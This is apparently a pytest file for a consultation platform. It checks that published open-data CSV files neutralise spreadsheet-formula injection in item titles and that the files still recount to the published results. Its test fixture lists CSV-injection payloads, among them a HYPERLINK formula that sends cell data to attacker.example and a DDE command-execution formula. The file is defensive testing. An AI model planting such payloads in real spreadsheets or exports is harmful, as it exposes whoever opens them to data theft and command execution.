"""Item text that a spreadsheet would run as a formula is published as text in every CSV file,
and the published files still recount to the published result.

The rule itself, cell by cell, is tabled in tests/counting/test_opendata.py.
"""

import csv
import io
import json
import random
import subprocess
import sys

import pytest
from django.conf import settings
from django.urls import reverse

from consultation.counting import opendata as formats
from consultation.models import Membership, Theme
from consultation.results import computing, opendata, publishing
from tests.factories import add_member, close, make_consultation, make_item, take_part

pytestmark = pytest.mark.django_db

# What an imported spreadsheet of items could hold: each form a spreadsheet runs.
DANGEROUS_TITLES = [
    '=HYPERLINK("https://attacker.example/?d="&A1;"Voir")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "@SUM(A1:A9)",
    "-2+3",
    "\tTabulation en tête",
    "\rRetour chariot en tête",
    "Horaires;=1+1",
    "'=déjà entre apostrophes",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def recount(*args):
    # A clean environment: no Django settings, as a journalist would run it.
    return subprocess.run(
        [sys.executable, "-m", "consultation.counting", "recount", *map(str, args)],
        cwd=settings.BASE_DIR,
        env={"PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=60,
    )


@pytest.fixture
def published(make_user, organiser):
    consultation = make_consultation(items=0, ranking_size=4)
    theme = Theme.objects.create(
        consultation=consultation, slug="-sante", name="Santé", name_en="Health"
    )
    for position, title in enumerate(DANGEROUS_TITLES):
        make_item(
            consultation, theme=theme, position=position, title=title, title_en=f"@EN {position}"
        )
    add_member(consultation, organiser, Membership.Role.ORGANISER)
    rng = random.Random(7)
    for _ in range(6):
        take_part(make_user(), consultation, rng=rng)
    close(consultation)
    computing.compute_results(consultation.pk, "final")
    return publishing.publish(consultation, organiser)


def downloaded(client, publication, name):
    response = client.get(
        reverse(
            "consultation:open_data",
            kwargs={
                "slug": publication.consultation.slug,
                "version": publication.version,
                "filename": name,
            },
        )
    )
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


def csv_names(publication):
    return [f["name"] for f in publication.manifest["files"] if f["name"].endswith(".csv")]


def test_every_cell_of_every_published_csv_file_starts_as_text(client, published):
    names = csv_names(published)
    assert set(names) == {
        "items.csv",
        "rankings.csv",
        "grades.csv",
        "votes.csv",
        "moderation_log.csv",
        "comments.csv",
        "participation.csv",
    }
    for name in names:
        for row in csv.reader(io.StringIO(downloaded(client, published, name), newline="")):
            for cell in row:
                # A French spreadsheet also starts a cell after each ";".
                for part in cell.split(";"):
                    assert not part.startswith(FORMULA_STARTS), (name, cell)


def test_items_csv_quotes_each_dangerous_title_and_items_json_keeps_it_raw(client, published):
    rows = list(csv.DictReader(io.StringIO(downloaded(client, published, "items.csv"), newline="")))
    assert [row["title"] for row in rows] == [
        '\'=HYPERLINK("https://attacker.example/?d="&A1;"Voir")',
        "'=cmd|' /C calc'!A0",
        "'+33 6 12 34 56 78",
        "'@SUM(A1:A9)",
        "'-2+3",
        "'\tTabulation en tête",
        "'\rRetour chariot en tête",
        "Horaires;'=1+1",
        "''=déjà entre apostrophes",
    ]
    assert {row["theme"] for row in rows} == {"'-sante"}
    assert rows[0]["title_en"] == "'@EN 0"
    # Numbers and ids are written as they are.
    assert [row["item"] for row in rows] == [str(pk) for pk in published_item_ids(published)]
    assert [row["position"] for row in rows] == [str(n) for n in range(1, 10)]
    items = json.loads(downloaded(client, published, "items.json"))["items"]
    assert [item["title"] for item in items] == DANGEROUS_TITLES
    assert items[0]["theme"] == "-sante"


def published_item_ids(publication):
    return list(
        publication.consultation.items.order_by("position", "id").values_list("pk", flat=True)
    )


def test_ballot_files_have_nothing_to_neutralise(published):
    directory = opendata.version_dir(published.consultation, published.version)
    for name in ("rankings.csv", "grades.csv", "votes.csv"):
        assert "'" not in (directory / name).read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("name", "method"),
    [
        ("rankings.csv", "schulze"),
        ("rankings.csv", "borda"),
        ("grades.csv", "majority_judgment"),
        ("votes.csv", "votes"),
    ],
)
def test_the_published_files_recount_to_the_published_result(published, name, method):
    directory = opendata.version_dir(published.consultation, published.version)
    seed = published.results["methods"][method]["details"]["tie_break"]["seed"]
    out = recount(directory / name, "--method", method, "--seed", seed, "--json")
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout) == published.results["methods"][method]
    out = recount(directory / name, "--verify", directory / "results.json")
    assert out.returncode == 0, out.stdout + out.stderr
    assert out.stdout.strip().splitlines()[-1] == "OK"


def test_the_recount_names_items_by_their_original_titles(published):
    directory = opendata.version_dir(published.consultation, published.version)
    titles = formats.item_titles(directory / "rankings.csv")
    assert list(titles.values()) == DANGEROUS_TITLES
    assert formats.read_items(directory / "items.csv") == published_item_ids(published)
